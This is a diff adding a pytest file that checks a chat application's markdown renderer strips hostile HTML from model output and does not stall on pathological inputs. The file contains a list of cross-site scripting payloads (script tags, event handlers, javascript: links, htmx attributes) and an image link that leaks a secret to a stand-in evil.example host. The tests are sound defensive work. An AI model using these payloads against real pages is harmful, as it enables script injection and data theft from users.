@@ -1,0 +1,79 @@
+"""A model's text on a page: rendered, and harmless."""
+
+from __future__ import annotations
+
+import re
+import time
+
+import pytest
+
+from chat.markdown import MAX_TEXT, render
+
+HOSTILE = [
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
+    "<iframe src=//evil.example></iframe>", "</textarea></template><script>alert(1)</script>",
+    "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](java&#10;script:alert(1))",
+    "[a](data:text/html,<script>alert(1)</script>)", "[a](vbscript:x)", "<javascript:alert(1)>",
+    "![a](https://evil.example/?q=secret)", "![a](data:image/svg+xml;base64,AAAA)",
+    "[a]: javascript:alert(1)\n\n[a]", '[a](https://x.example "onmouseover=alert(1)")',
+    '[a](https://x.example" onmouseover="alert(1))', "<a href='javascript:alert(1)'>a</a>",
+    "<b hx-get=/chat/ hx-trigger=load>a</b>", "<div data-hx-get=/ hx-on:click=alert(1)>a</div>",
+    "```\"><script>alert(1)</script>\ncode\n```", "```html\n<script>alert(1)</script>\n```",
+    "<style>*{display:none}</style>", "<base href=//evil.example>", "<form action=//evil><input>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;", "`<script>alert(1)</script>`", "\0<script>",
+    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |", "[<img src=x onerror=alert(1)>](/)",
+]  # fmt: skip
+TAG = re.compile(r"<\s*/?\s*([a-zA-Z0-9]+)([^>]*)>")
+HARMLESS = re.compile(
+    r"""(\s+(href="(https?|mailto):[^"]*"|rel="noopener\snoreferrer"|title="[^"]*"
+    |class="[a-z0-9 ]*"|tabindex="0"|start="\d+"))*\s*/?""", re.VERBOSE)  # fmt: skip
+TAGS = {"a", "code", "div", "em", "h3", "p", "pre", "span", "strong", "table", "tbody", "td", "th",
+        "thead", "tr"}  # fmt: skip
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_hostile_passes(text: str) -> None:
+    for tag, attributes in TAG.findall(render(text)):
+        assert tag in TAGS
+        assert HARMLESS.fullmatch(attributes), attributes
+
+
+def test_the_check_above_would_find_something() -> None:
+    for bad in (' onclick="x"', ' href="javascript:x"', ' src="x"', ' hx-get="/"', ' style="x"'):
+        assert not HARMLESS.fullmatch(bad)
+
+
+@pytest.mark.parametrize(
+    ("text", "part"),
+    [
+        ("**b** and *i*", "<strong>b</strong> and <em>i</em>"),
+        ("# Title", "<h3>Title</h3>"),
+        ("a `b`", "<code>b</code>"),
+        ("3. x", '<ol start="3">'),
+        ("| a |\n|---|\n| 1 |", '<div class="scroll" tabindex="0"><table>'),
+        ("```python\ndef f(): pass\n```", '<span class="k">def</span>'),
+        ("```no-such-language\n<x>\n```", '<pre tabindex="0"><code>&lt;x&gt;\n</code></pre>'),
+        ("[a](https://x.example)", '<a href="https://x.example" rel="noopener noreferrer">a</a>'),
+        ("![a cat](https://x.example/c.png)", ">a cat</a>"),
+        ("1 < 2 & 3", "1 &lt; 2 &amp; 3"),
+    ],
+)
+def test_markdown_is_rendered(text: str, part: str) -> None:
+    assert part in render(text)
+
+
+LONG = ["[" * 20_000, "![" * 1_000, "`" * 50_000, "*a " * 16_000, ">" * 40_000, "- " * 20_000,
+        "```perl\n" + "s{" * 4_900 + "\n```", ("```terraform\n" + "_" * 900 + "\n```\n") * 40,
+        "|a" * 10_000 + "\n" + "|-" * 10_000, "a" * 500_000]  # fmt: skip
+
+
+@pytest.mark.parametrize("text", LONG, ids=range(len(LONG)))
+def test_no_text_takes_long(text: str) -> None:
+    began = time.process_time()
+    assert render(text)
+    # Each takes 0.3 s at most; without the limits some take many seconds.
+    assert time.process_time() - began < 2
+
+
+def test_what_is_too_long_is_shown_as_it_is() -> None:
+    assert render("<b>" * MAX_TEXT).startswith('<div class="plain">&lt;b&gt;')
